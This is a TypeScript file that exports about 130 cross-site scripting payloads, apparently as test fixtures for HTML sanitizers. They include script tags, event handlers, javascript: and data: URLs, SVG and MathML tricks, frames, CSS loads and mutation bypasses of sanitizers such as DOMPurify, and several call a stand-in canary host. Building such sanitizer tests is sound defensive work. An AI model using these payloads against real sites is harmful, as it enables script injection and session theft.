/**
 * Ways to get a script run through HTML: those of the OWASP filter evasion sheet, of html5sec, of the PortSwigger
 * sheet, and the mutations that got past DOMPurify, sanitize-html and others over the years. Each opens a dialog or
 * fetches from the canary if it works.
 */
export const canary = 'canary.invalid';

const fetchIt = `//${canary}/x`;

const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  `<script src="${fetchIt}.js"></script>`,
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</p><script>alert(1)</script><p>',
  '<script type="module">alert(1)</script>',
  '<script\u0000>alert(1)</script>',
];

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<img src=x onerror\n=alert(1)>',
  '<img """><script>alert(1)</script>">',
  "<img src='x' onerror='alert`1`'>",
  `<img src="https:${fetchIt}.png">`,
  '<body onload=alert(1)>',
  '<p onmouseover="alert(1)">Hover</p>',
  '<p onclick="alert(1)" style="position:fixed;inset:0">Click</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<a href="#" autofocus tabindex=0 onfocus=alert(1)>x</a>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation:x" onanimationstart="alert(1)">x</p><style>@keyframes x{}</style>',
  '<li onpointerrawupdate=alert(1)>x</li>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>',
  '<xss onafterscriptexecute=alert(1)><script>1</script></xss>',
  '<p contenteditable onbeforeinput=alert(1) oncut=alert(1)>x</p>',
];

const addresses = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:null/x">x</a>',
  `<a href="${fetchIt}" ping="https:${fetchIt}">x</a>`,
  '<a href="javascript:alert(1)" target="_blank" download>x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)" form=x>x</button><form id=x></form>',
  `<base href="https:${fetchIt}/"><a href="y">x</a>`,
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  `<meta http-equiv="refresh" content="0;url=https:${fetchIt}">`,
  `<link rel=stylesheet href="https:${fetchIt}.css">`,
  `<link rel=prefetch href="https:${fetchIt}">`,
];

const foreign = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"></script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  `<svg><use href="https:${fetchIt}.svg#x"></use></svg>`,
  `<svg><image href="https:${fetchIt}.png"></image></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
];

const frames = [
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  `<iframe src="https:${fetchIt}"></iframe>`,
  '<iframe onload=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  `<object data="https:${fetchIt}.swf"></object>`,
  '<embed src="javascript:alert(1)">',
  '<frameset onload=alert(1)></frameset>',
  `<portal src="https:${fetchIt}"></portal>`,
];

const styles = [
  `<style>@import url("https:${fetchIt}.css");</style>`,
  `<style>*{background:url(https:${fetchIt}.png)}</style>`,
  `<p style="background:url(https:${fetchIt}.png)">x</p>`,
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(x.xml#x);behavior:url(x.htc)">x</p>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template><script>alert(1)</script></template><p>x</p>',
  '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<select><noembed></select><script>alert(1)</script></noembed></select>',
  '<table><td><style><a title="</style><img src=x onerror=alert(1)>"></td></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<p id=site name=alert>x</p><a id=defaultView href=x><a id=defaultView name=alert href="javascript:alert(1)">x</a></a>',
  '<form><input name=attributes><input name=childNodes></form><img src=x onerror=alert(1)>',
  '<p is="x-y" slot=x nonce=x><img srcset="x 1x" onerror=alert(1)></p>',
  `${'<p><em>'.repeat(260)}<img src=x onerror=alert(1)>`,
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{alert(1)}',
];

export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...foreign,
  ...frames,
  ...styles,
  ...mutations,
];
